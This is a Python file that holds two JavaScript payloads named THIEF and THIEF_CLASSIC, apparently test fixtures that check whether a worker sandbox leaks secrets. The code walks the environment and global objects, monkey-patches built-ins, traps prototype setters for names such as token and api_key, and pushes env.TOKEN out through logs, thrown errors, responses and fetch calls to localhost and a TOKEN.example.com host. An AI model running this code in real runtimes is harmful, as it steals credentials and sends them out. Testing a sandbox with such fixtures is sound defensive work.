"""Functions that try to get hold of credentials, and say all that they have found."""

# What each tries stands in `job`; whatever it finds, it returns, logs or throws.
THIEF = r"""
const found = [];
const seen = new Set();
function walk(value, depth, path) {
  if (found.length > 5000 || depth > 7) return;
  if (value === null || (typeof value !== "object" && typeof value !== "function")) {
    if (typeof value === "string") found.push(path + "=" + value);
    return;
  }
  if (seen.has(value)) return;
  seen.add(value);
  if (typeof value === "function")
    try { found.push(path + ":" + Function.prototype.toString.call(value).slice(0, 2000)) } catch {}
  let names = [];
  try { names = Reflect.ownKeys(value) } catch {}
  for (const name of names.slice(0, 500)) {
    let inner;
    try { inner = value[name] } catch (error) { found.push(path + "!" + error) }
    walk(inner, depth + 1, path + "." + String(name));
  }
  try { walk(Object.getPrototypeOf(value), depth + 1, path + ".__proto__") } catch {}
}
function patched() {
  const was = [];
  const patch = (owner, name) => {
    const old = owner[name];
    try {
      owner[name] = function (...given) {
        try { for (const one of given) walk(one, 4, name) } catch {}
        return Reflect.apply(old, this, given);
      };
      was.push(() => { owner[name] = old });
    } catch {}
  };
  for (const [owner, names] of [
    [JSON, ["stringify", "parse"]], [Array.prototype, ["push", "map", "join"]],
    [Promise.prototype, ["then"]], [Map.prototype, ["get", "set"]],
    [String.prototype, ["replace", "slice"]], [Object, ["keys", "entries", "freeze", "assign"]],
  ]) for (const name of names) patch(owner, name);
  for (const name of ["credentials", "token", "auth_token", "webhook_url", "url", "api_key"])
    try {
      Object.defineProperty(Object.prototype, name, {
        configurable: true, get() { return undefined },
        set(value) { found.push(name + "<-" + String(value)) },
      });
      was.push(() => { delete Object.prototype[name] });
    } catch {}
  return () => { for (const undo of was) try { undo() } catch {} };
}
async function send(env, messages) {
  const said = [];
  for (const [name, message] of Object.entries(messages ?? {})) {
    for (const one of [message, {}, { ...message, credentials: true }, { nonsense: "${token}" }])
      try { said.push(await env[name].send(one)) } catch (error) {
        said.push(String(error), String(error?.stack), JSON.stringify(error));
      }
  }
  return said;
}
export default {
  async job(params, env, ctx) {
    const step = params?.do ?? params;
    console.log("log", step);
    if (step === "wake") return step;
    if (step === "look") {
      walk(env, 0, "env");
      walk(globalThis, 0, "globalThis");
      walk(ctx, 0, "ctx");
      return { length: env.TOKEN.length, env: JSON.stringify(env), values: { ...env }, found };
    }
    if (step === "send") return await send(env, params.messages);
    if (step === "patch") {
      const undo = patched();
      try { await send(env, params.messages) } finally { undo() }
      const long = found.join("\n").match(/[0-9a-f]{20,}|[A-Za-z0-9+\/_-]{36,}/g);
      return { count: found.length, long: [...new Set(long)].slice(0, 5000) };
    }
    if (step === "throw") throw new Error("no: " + env.TOKEN + JSON.stringify(env));
    if (step === "reject")
      throw Object.assign(new TypeError(env.TOKEN), {
        name: env.TOKEN, stack: env.TOKEN + "\n at " + env.TOKEN, [env.TOKEN]: env.TOKEN });
    if (step === "log") {
      console.log(env, env.TOKEN, [env.TOKEN], btoa(env.TOKEN), btoa("ab" + env.TOKEN));
      console.error(new Error(env.TOKEN));
      console.log("x".repeat(2000), encodeURIComponent(env.TOKEN));
      try { await fetch("http://127.0.0.1:" + params.port + "/?key=" + env.TOKEN,
        { method: "POST", headers: { "x-key": env.TOKEN }, body: env.TOKEN }) } catch {}
      try { await fetch("http://" + env.TOKEN + ".example.com/") } catch (error) {
        console.log(String(error)) }
      await env.SMS.send(params.messages.SMS);
      return Object.entries(env);
    }
  },
  async fetch(request, env) {
    const text = env.TOKEN + JSON.stringify(env);
    return new Response(text, { headers: { "x-token": env.TOKEN } });
  },
};
"""
THIEF_CLASSIC = r"""
function main(params, callback) {
  var found = [];
  Object.getOwnPropertyNames(globalThis).forEach(function (name) {
    try { found.push(name + ":" + String(globalThis[name]) + JSON.stringify(globalThis[name])) }
    catch (error) { found.push(String(error)) }
  });
  console.log(found.length);
  if (params === "throw") throw new Error(found.join("\n"));
  callback(null, found);
}
"""
